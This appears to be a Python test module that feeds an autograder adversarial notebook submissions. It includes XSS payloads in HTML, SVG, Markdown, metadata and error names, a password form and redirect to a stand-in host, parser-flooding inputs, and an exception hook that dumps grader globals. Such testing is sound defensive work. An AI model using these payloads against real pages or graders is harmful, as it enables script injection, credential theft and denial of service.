"""What a student's outputs put on the pages that others open."""

from . import attack, code

SCRIPT = "<script>fetch('/PWNED')</script>"
SHOW = "\n_mark = 'PW' + 'NED'\nfrom IPython.display import *\n"
OUTPUTS = (
    ("html_script", "a script in an HTML output", 'display(HTML(f"<script>fetch(\'/{_mark}\')</script>"))'),
    ("html_handler", "an image with an error handler in an HTML output", 'display(HTML(f"<img src=x onerror=fetch(\'/{_mark}\')>"))'),
    ("html_frame", "a frame in an HTML output", 'display(HTML(f"<iframe srcdoc=\'{_mark}\'></iframe>"))'),
    ("html_link", "a link that runs a script", 'display(HTML(f"<a href=\'java\\nscript:alert(`{_mark}`)\'>your marks</a>"))'),
    ("html_refresh", "a page that sends its reader elsewhere", 'display(HTML(f"<meta http-equiv=refresh content=\'0;url=http://{_mark}.example\'>"))'),
    ("html_form", "a form that asks for a password", 'display(HTML(f"<form action=http://{_mark}.example><input name=password></form>"))'),
    ("html_style", "a style that repaints the score", 'display(HTML(f"<style>h4::after {{content: \'{_mark} 15 of 15\'}}</style>"))'),
    ("svg_script", "a script in a picture", 'display(SVG(f"<svg xmlns=\'http://www.w3.org/2000/svg\'><script>{_mark}</script></svg>"))'),
    ("svg_handler", "a picture with a load handler", 'display(SVG(f"<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'fetch(`{_mark}`)\'></svg>"))'),
    ("javascript", "a JavaScript output", 'display(Javascript(f"fetch(\'/{_mark}\')"))'),
    ("markdown_script", "a script in a Markdown output", 'display(Markdown(f"<script>{_mark}</script>"))'),
    ("latex_script", "a script in a formula", 'display(Latex(f"<script>{_mark}</script>"))'),
    ("ansi_script", "a script in coloured text", "import sys\nsys.stderr.write(f'\\x1b[31m<script>{_mark}</script>\\x1b[0m')"),
    ("png_attribute", "a picture whose data close their attribute", "display({'image/png': f'x\"><script>{_mark}</script>'}, raw=True)"),
    ("picture_size", "a picture whose width closes its attribute", "display({'image/png': 'aaaa'}, metadata={'image/png': {'width': f'1\"><script>{_mark}</script>'}}, raw=True)"),
    ("widget_state", "a widget whose state closes its script", "display({'application/vnd.jupyter.widget-view+json': {'model_id': f'</script><script>{_mark}</script>'}, 'text/plain': 'x'}, raw=True)"),
    ("error_name", "an error whose name is a script", "class E(Exception): pass\nE.__name__ = f'<script>{_mark}</script>'\nraise E(f'<script>{_mark}</script>')"),
)  # fmt: skip
for name, says, source in OUTPUTS:
    code(name, "pages", says, SHOW + source)

#: Text over which a parser of HTML, Markdown or terminal colours could sit for hours.
FLOODS = (
    ("html_deep", "elements in elements, 80,000 deep", "display(HTML('<div>' * 80_000))"),
    ("html_unclosed", "formats that are never closed, which every paragraph opens again", "display(HTML('<b><i><u>' * 400 + '<p>x' * 60_000))"),
    ("html_adoption", "formats closed in the wrong order", "display(HTML('<a><b><p>' * 3000 + '</b></a>' * 3000))"),
    ("html_table", "words where a table has no place for them", "display(HTML('<table><tr>' * 3000 + 'x<b>' * 20_000))"),
    ("html_attributes", "an element of 50,000 attributes", "display(HTML('<p ' + ' '.join(f'a{n}=1' for n in range(50_000)) + '>'))"),
    ("html_entities", "400,000 beginnings of entities", "display(HTML('&' * 400_000))"),
    ("html_comments", "comments that never end", "display(HTML('<!--' * 100_000))"),
    ("svg_deep", "a picture 50,000 deep", "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">' + '<g>' * 50_000 + '</g>' * 50_000 + '</svg>'))"),
    ("markdown_links", "brackets that never become links", "display(Markdown('[' * 100_000 + '](' * 50_000))"),
    ("markdown_stars", "stars that never become bold", "display(Markdown('*a_ ' * 100_000))"),
    ("markdown_lists", "lists in lists", "display(Markdown('\\n'.join('  ' * n + '- x' for n in range(600))))"),
    ("markdown_quotes", "quotes in quotes", "display(Markdown('> ' * 50_000 + 'x'))"),
    ("markdown_code", "beginnings of code that never end", "display(Markdown('`' * 100_000 + ' ' + '``` ' * 50_000))"),
    ("ansi_flood", "100,000 colours", "print('\\x1b[31m\\x1b[1mx' * 40_000)"),
    ("latex_flood", "formulas that never end", "display(Latex('$' * 200_001))"),
)  # fmt: skip
for name, says, source in FLOODS:
    code(name, "floods", says, SHOW + source)


@attack("floods", "an answer in words of 190,000 brackets")
def words_flood(sub):
    sub.cell("_7_answer").source = "[a](" * 40_000 + "\n\n" + "<div>" * 6000


@attack("floods", "a cell of code that no highlighter likes")
def code_flood(sub):
    sub.insert("_7_answer", "x = " + "('" * 60_000 + "\n" + '"""' * 9999)


@attack("pages", "a script in the question's text")
def script_in_markdown(sub):
    sub.cell("_1_question").source += SCRIPT


@attack("pages", "a script in the written answer")
def script_in_answer(sub):
    sub.cell("_7_answer").source = (
        SCRIPT + f"\n\n<img src=x onerror='{SCRIPT}'>\n\n[x](javascript:PWNED)"
    )


@attack("pages", "a script in an own Markdown cell and its attachment")
def script_in_attachment(sub):
    cell = sub.insert("_1_answer", "![x](attachment:x.svg)" + SCRIPT, markdown=True)
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": "PHN2Zz48c2NyaXB0PlBXTkVEPC9zY3JpcHQ+PC9zdmc+"}
    }


@attack("pages", "an attachment that is not there")
def missing_attachment(sub):
    sub.cell("_7_answer").source += "\n\n![x](attachment:x.svg)"


@attack("pages", "Markdown that no reader of Markdown likes")
def odd_markdown(sub):
    sub.cell("_7_answer").source += (
        "[" * 3000 + "\n" + "> " * 3000 + "\n" + "*_" * 3000 + "\n" + "$" * 3001
    )


@attack("pages", "a script in the tags of cells and in the notebook's title")
def script_in_metadata(sub):
    for cell in sub.notebook.cells:
        cell.metadata.tags = [f'x">{SCRIPT}']
    sub.notebook.metadata.title = f"</title>{SCRIPT}"
    sub.notebook.metadata.language_info = {"name": "python", "pygments_lexer": f'x">{SCRIPT}'}
    sub.notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": f"</script>{SCRIPT}"}
    }


@attack("pages", "outputs saved in the notebook, not computed")
def outputs_saved(sub):
    page = {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT}}
    points = {
        "output_type": "execute_result",
        "metadata": {},
        "data": {"text/plain": "2.0"},
        "execution_count": 1,
    }
    for cell in sub.notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [page, points]


@attack("pages", "30 MB of printed text")
def output_flood(sub):
    sub.write(1, "for _ in range(300):\n    print('x' * 100_000)")


@attack("pages", "a million short outputs", wait=1)
def output_count(sub):
    sub.write(1, "for n in range(100_000):\n    display(n)")


@attack("pages", "a picture of 60 MB")
def picture_flood(sub):
    sub.write(1, "display({'image/png': 'A' * 60_000_000}, raw=True)")


code("traceback_quotes", "pages", "an error that quotes whatever surrounds it", """
import sys
def shown(shell, kind, value, trace, **more):
    frame = trace
    while frame:
        print({k: str(v)[:500] for k, v in frame.tb_frame.f_globals.items()})
        frame = frame.tb_next
get_ipython().set_custom_exc((Exception,), shown)
class Late(float):
    __sub__ = lambda s, o: print(In[-1])
answer_1 = Late(5)""")  # fmt: skip
